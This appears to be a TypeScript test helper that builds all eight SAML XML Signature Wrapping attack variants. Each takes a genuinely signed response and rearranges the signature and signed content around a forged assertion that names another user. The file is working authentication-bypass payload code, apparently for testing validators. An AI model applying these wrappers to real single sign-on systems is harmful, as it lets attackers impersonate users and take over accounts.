/**
 * For tests: the eight ways to wrap a signed SAML response around a forged one, as published in 2012 and as the tool SAML
 * Raider builds them. Each holds the valid signature and what it signs, and an assertion that names somebody else.
 */

const part = (xml: string, pattern: RegExp): string => {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error(`The response has no ${pattern.source}`);
  return found;
};

const assertionOf = (xml: string) => part(xml, /<saml:Assertion .*<\/saml:Assertion>/s);
const signatureOf = (xml: string) => part(xml, /<Signature .*?<\/Signature>/s);
const without = (xml: string, what: string) => xml.replace(what, () => "");
const swap = (xml: string, what: string, by: string) => xml.replace(what, () => by);
const withId = (xml: string, id: string) => xml.replace(/ ID="[^"]+"/, ` ID="${id}"`);
const intoSignature = (signature: string, content: string) =>
  swap(signature, "</Signature>", `${content}</Signature>`);
const inObject = (content: string) => `<Object>${content}</Object>`;

/** An assertion with its signature, the same without, and one that names somebody else. */
function parts(xml: string, forge: (assertion: string) => string) {
  const assertion = assertionOf(xml);
  const signature = signatureOf(assertion);
  const bare = without(assertion, signature);
  return { assertion, signature, bare, evil: withId(forge(bare), "_forged") };
}

type Wrap = (xml: string, forge: (xml: string) => string) => string;

/** The first two need a signed response, the others a signed assertion. */
export const wraps: Readonly<Record<string, Wrap>> = {
  XSW1(xml, forge) {
    const signature = signatureOf(xml);
    const original = without(xml, signature);
    const evil = forge(withId(original, "_forged"));
    return swap(evil, "</saml:Issuer>", `</saml:Issuer>${intoSignature(signature, original)}`);
  },
  XSW2(xml, forge) {
    const signature = signatureOf(xml);
    const original = without(xml, signature);
    const evil = forge(withId(original, "_forged"));
    return swap(evil, "</saml:Issuer>", `</saml:Issuer>${original}${signature}`);
  },
  XSW3(xml, forge) {
    const { assertion, evil } = parts(xml, forge);
    return swap(xml, assertion, evil + assertion);
  },
  XSW4(xml, forge) {
    const { assertion, evil } = parts(xml, forge);
    return swap(xml, assertion, swap(evil, "</saml:Assertion>", `${assertion}</saml:Assertion>`));
  },
  XSW5(xml, forge) {
    const { assertion, bare } = parts(xml, forge);
    return swap(xml, assertion, withId(forge(assertion), "_forged") + bare);
  },
  XSW6(xml, forge) {
    const { assertion, signature, bare, evil } = parts(xml, forge);
    const holding = intoSignature(signature, bare);
    return swap(xml, assertion, swap(evil, "</saml:Issuer>", `</saml:Issuer>${holding}`));
  },
  XSW7(xml, forge) {
    const { assertion, evil } = parts(xml, forge);
    return swap(xml, assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
  },
  XSW8(xml, forge) {
    const { assertion, signature, bare, evil } = parts(xml, forge);
    const holding = intoSignature(signature, inObject(bare));
    return swap(xml, assertion, swap(evil, "</saml:Issuer>", `</saml:Issuer>${holding}`));
  },
};
